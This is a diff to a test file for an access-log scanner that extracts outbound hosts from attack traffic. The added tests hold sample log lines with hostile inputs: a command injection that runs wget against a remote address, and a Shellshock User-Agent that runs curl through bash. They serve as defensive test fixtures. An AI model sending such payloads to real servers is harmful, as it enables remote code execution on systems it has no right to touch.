@@ -176,7 +176,8 @@ def test_nginx_log_format_string_with_its_own_escaping(tmp_path):
     log = tmp_path / "access.log"
     log.write_bytes(line + b"\n")
     (f,) = list(dropscan.scan(str(log), spec))
-    assert {d.host for d in f.egress} == {"203.0.113.9"} or {d.host for d in f.egress} >= {"203.0.113.9"}
+    assert {d.host for d in f.egress} == {"203.0.113.9", "203.0.113.10"}
+    assert f.host == "shop.example" and f.client_ip == f.peer_ip == "198.51.100.4"
 
 
 def test_json_key_overrides(tmp_path):
@@ -311,3 +312,18 @@ def test_prefilter_stays_sound_for_what_each_parser_undoes(sigs, full_scanner):
     stem_query = [b"/shell.txt page=1", b"/shell.txt\tpage=1"]
     assert [fast.prefilter(compile_format("w3c")).passes(x) for x in stem_query] == [True, True]
     assert [fast.prefilter(compile_format("combined")).passes(x) for x in stem_query] == [False, False]
+
+
+def test_apache_json_logformat(tmp_path):
+    # LogFormat '{ "time":"%{%Y-%m-%dT%H:%M:%S}t", "remoteIP":"%a", "host":"%V", "request":"%U",
+    #   "query":"%q", "method":"%m", "status":"%>s", "userAgent":"%{User-agent}i", "referer":"%{Referer}i" }'
+    log = tmp_path / "access_json.log"
+    log.write_text(
+        '{ "time":"2026-11-25T10:00:00", "remoteIP":"203.0.113.8", "host":"shop.example", "request":"/x", '
+        '"query":"?c=;wget%20http://198.51.100.6/a", "method":"GET", "status":"404", '
+        '"userAgent":"() { :;}; /bin/bash -c \\"curl http://198.51.100.7/b\\"", "referer":"-" }\n'
+    )
+    (f,) = list(dropscan.scan(str(log)))
+    assert (f.client_ip, f.host, f.method, f.status) == ("203.0.113.8", "shop.example", "GET", 404)
+    assert f.request == "GET /x?c=;wget%20http://198.51.100.6/a"
+    assert {d.host for d in f.egress} == {"198.51.100.6", "198.51.100.7"}
